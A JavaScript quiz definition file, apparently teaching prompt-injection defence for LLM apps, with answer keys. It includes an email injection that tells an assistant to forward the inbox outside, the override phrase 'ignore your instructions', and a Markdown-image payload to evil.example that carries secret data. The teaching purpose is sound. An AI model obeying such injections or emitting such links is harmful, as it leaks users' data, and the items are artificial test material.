import { defineExercises } from "@qkv/quiz";

export default defineExercises([
  {
    id: "indirect",
    kind: "multiple-choice",
    prompt: "An email assistant summarises incoming mail and can send email. Which is an *indirect* prompt injection?",
    choices: [
      { text: "An incoming email contains hidden text telling the assistant to forward the inbox to an outside address", correct: true, explanation: "The attacker's instruction arrives through data the app feeds the model." },
      { text: "The user asks the assistant to write a rude reply", correct: false, explanation: "That is the user's own request, not an injection." },
      { text: "The user types \"ignore your instructions\" into the chat", correct: false, explanation: "That is direct injection." },
    ],
  },
  {
    id: "best-defence",
    kind: "multiple-choice",
    prompt: "Which measure limits the damage of a successful injection in a tool-using agent most reliably?",
    choices: [
      { text: "Least-privilege tools plus human confirmation of consequential actions", correct: true, explanation: "It bounds what the model can do even when it is fooled." },
      { text: "A stronger system prompt telling the model never to obey instructions in documents", correct: false, explanation: "Helps somewhat, but the model cannot reliably separate instructions from data." },
      { text: "A regular-expression blocklist of attack phrases", correct: false, explanation: "Trivially bypassed by rephrasing, spacing or other languages." },
    ],
  },
  {
    id: "exfiltration",
    kind: "recall",
    prompt: "How can an injected instruction exfiltrate data from a chat app without any tool, and what blocks it?",
    answer: "It makes the model emit a Markdown image or link whose URL carries the secret (e.g. `![](https://evil.example/?q=<data>)`); the client loads it automatically. Block auto-loading of external images/links (or allow-list domains) and treat model output as untrusted.",
  },
  {
    id: "filter-retries",
    kind: "numeric",
    tolerance: { abs: 1e-3 },
    generate(rng) {
      const blocked = [0.9, 0.95, 0.99][rng.int(3)];
      const tries = [10, 20, 50][rng.int(3)];
      const expected = 1 - blocked ** tries;
      return {
        prompt:
          `An injection filter blocks ${Math.round(blocked * 100)}% of attack phrasings, independently per attempt. An attacker who can retry cheaply ` +
          `(a public form, a web page the agent reads) tries ${tries} variants. What is the probability that at least one gets through?`,
        expected,
        mistakes: [
          { name: "give the single-attempt bypass rate", value: 1 - blocked },
          { name: "multiply the single-attempt rate by the tries (capped at 1)", value: Math.min(1, tries * (1 - blocked)) },
        ].filter((m) => Math.abs(m.value - expected) > 1e-3),
        explanation:
          `All ${tries} must be blocked for the defence to hold: $${blocked}^{${tries}} = ${(blocked ** tries).toFixed(3)}$, so one passes with ` +
          `probability ${expected.toFixed(3)}. A filter that is right most of the time still loses to retries, which is why the design must ` +
          `limit what a successful injection can do (least privilege, confirmation) rather than rely on catching it.`,
      };
    },
  },
]);
